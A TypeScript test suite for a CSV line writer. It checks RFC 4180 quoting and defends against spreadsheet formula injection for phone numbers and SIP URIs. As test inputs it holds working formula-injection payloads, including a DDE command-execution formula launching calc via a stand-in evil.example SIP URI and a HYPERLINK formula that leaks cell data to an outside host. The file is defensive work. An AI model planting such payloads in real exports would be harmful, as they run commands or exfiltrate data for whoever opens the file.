import { csvLine } from '../../cli/csv';

// RFC 4180 CSV that a spreadsheet opens as text (OWASP's CSV injection guidance, for every cell a spreadsheet
// could see in a field, not only its first character).

/** An RFC 4180 reader: fields split at commas, quoted fields with doubled quotes, records ending in CRLF. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text.charAt(at);
    if (quoted) {
      if (char !== '"') field += char;
      else if (text.charAt(at + 1) === '"') {
        field += '"';
        at += 1;
      } else quoted = false;
    } else if (char === '"' && field === '') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text.charAt(at + 1) === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      at += 1;
    } else if (/["\r\n]/.test(char)) throw new Error(`a bare ${JSON.stringify(char)} at ${at}`);
    else field += char;
  }
  if (quoted || field !== '' || record.length > 0) throw new Error('the last record is not ended by CRLF');
  return records;
}

/**
 * The cells a spreadsheet could see in one line when it splits where we do not: at `;` (its list separator
 * in many locales), at `,`, tabs and line breaks, ignoring our quotes, then trimming spaces and quotes.
 */
function foreignCells(line: string): string[] {
  return line.split(/[,;\t\r\n]/).map((cell) => cell.replace(/^[ "]+/, ''));
}

const FORMULA_START = /^[=+\-@]/;
const SIGNED_NUMBER = /^[+-][0-9]+"*$/;

describe('csvLine: RFC 4180', () => {
  test.each([
    ['plain values as they are, CRLF at the end', ['CA1', 47, 'completed'], 'CA1,47,completed\r\n'],
    ['absent values as empty cells', ['CA1', undefined, 'x'], 'CA1,,x\r\n'],
    ['a comma: quoted', ['a,b'], '"a,b"\r\n'],
    ['a semicolon: quoted', ['a;b'], '"a;b"\r\n'],
    ['a quote: quoted and doubled', ['say "hi"'], '"say ""hi"""\r\n'],
    ['CR and LF: quoted', ['a\r\nb', 'c\nd'], '"a\r\nb","c\nd"\r\n'],
    ['a tab inside: quoted', ['a\tb'], '"a\tb"\r\n'],
    ['a formula character anywhere: quoted', ['a=b', 'a+b', 'a-b', 'a@b'], '"a=b","a+b","a-b","a@b"\r\n'],
  ])('%s', (_name, values, line) => {
    // Act
    const text = csvLine(values);

    // Assess
    expect(text).toBe(line);
  });
});

describe('csvLine: numbers and SIP URIs stay readable, apart from quoting', () => {
  test.each([
    ['an E.164 number', '+13125550142', '"+13125550142"'],
    ['another E.164 number', '+442079460321', '"+442079460321"'],
    ['a negative number', '-5', '"-5"'],
    [
      'a SIP URI with a parameter',
      'sip:agent@pbx.example.com;transport=tcp',
      '"sip:agent@pbx.example.com;transport=tcp"',
    ],
    [
      'a SIP URI with a number and two parameters',
      'sip:+13125550142@pbx.example.com;user=phone;transport=tls',
      '"sip:+13125550142@pbx.example.com;user=phone;transport=tls"',
    ],
    ['a SIPS URI with a port', 'sips:desk@pbx.example.com:5061', '"sips:desk@pbx.example.com:5061"'],
    [
      'a display name with a comma',
      '"Front desk, 2nd floor" <sip:desk@pbx.example.com>',
      '"""Front desk, 2nd floor"" <sip:desk@pbx.example.com>"',
    ],
    ['an ISO time', '2030-03-01T09:00:02.000Z', '"2030-03-01T09:00:02.000Z"'],
  ])('%s: %s', (_name, value, field) => {
    // Act
    const text = csvLine([value]);

    // Assess
    expect(text).toBe(`${field}\r\n`);
    expect(readCsv(text)).toEqual([[value]]);
  });
});

describe('csvLine: no cell a spreadsheet could see starts a formula', () => {
  test("the issue's payload: the cell after the ';' is defused", () => {
    // Prepare
    const payload = "sip:x@evil.example;=cmd|' /C calc'!A0";

    // Act
    const text = csvLine(['CA1', payload, '+13125550142']);

    // Assess
    expect(text).toBe(`CA1,"sip:x@evil.example;'=cmd|' /C calc'!A0","+13125550142"\r\n`);
    expect(readCsv(text)).toEqual([['CA1', "sip:x@evil.example;'=cmd|' /C calc'!A0", '+13125550142']]);
  });

  const separators = [',', ';', '\t', '\r', '\n', '\r\n'];
  const formulas = ['=', '+', '-', '@'];
  test.each(separators.flatMap((separator) => formulas.map((formula) => [separator, formula] as const)))(
    'after %j, %s gets a quote mark in front',
    (separator, formula) => {
      // Prepare
      const value = `sip:x@evil.example${separator}${formula}cmd|' /C calc'!A0`;

      // Act
      const text = csvLine([value]);

      // Assess
      const neutralised = `sip:x@evil.example${separator}'${formula}cmd|' /C calc'!A0`;
      expect(text).toBe(`"${neutralised}"\r\n`);
      expect(readCsv(text)).toEqual([[neutralised]]);
    },
  );

  test.each([
    ['at the start', '=1+1', "'=1+1"],
    ['each of them at the start', '@SUM(A1)', "'@SUM(A1)"],
    ['a minus that is no number', '-2+3', "'-2+3"],
    ['a plus that is no number', '+cmd|x', "'+cmd|x"],
    ['after spaces, which an import may trim', 'a;  =1+1', "a;  '=1+1"],
    ['after a quote, which a ;-separated import reads as opening the cell', 'a;"=1+1"', 'a;"\'=1+1"'],
    ['a tab at the start', '\tx', "'\tx"],
    ['CR or LF at the start', '\r\n=1', "'\r\n'=1"],
    ['every cell of a field', '=a;=b,+c\n@d', "'=a;'=b,'+c\n'@d"],
    ['a number segment stays, a formula one does not', 'x;+13125550142;=1', "x;+13125550142;'=1"],
    ["OWASP's first example", '=1+2";=1+2', "'=1+2\";'=1+2"],
    ["OWASP's second example", '=1+2\'" ;,=1+2', "'=1+2'\" ;,'=1+2"],
    ['a formula with a comma and quotes', '=HYPERLINK("u","t")', '\'=HYPERLINK("u","t")'],
  ])('%s: %j reads back as %j', (_name, value, neutralised) => {
    // Act
    const text = csvLine([value]);

    // Assess
    expect(readCsv(text)).toEqual([[neutralised]]);
  });

  const hostile = [
    "sip:x@evil.example;=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    '"Desk" <sip:d@pbx.example>;=1+1',
    'a, =1;  @SUM(1)\t-2+3\r\n+cmd',
    ';;=;,=,\n\n=',
    '" ;"=1',
    '+13125550142',
    'sip:agent@pbx.example.com;transport=tcp',
  ];
  test.each(hostile)('%j: no cell of the line, split as any locale would, starts a formula', (value) => {
    // Act
    const text = csvLine(['CA1', value, 47]);

    // Assess
    const formulas = foreignCells(text).filter(
      (cell) => FORMULA_START.test(cell) && !SIGNED_NUMBER.test(cell),
    );
    expect(formulas).toEqual([]);
    expect(readCsv(text)[0]?.[1]?.replaceAll("'", '')).toBe(value.replaceAll("'", ''));
  });
});
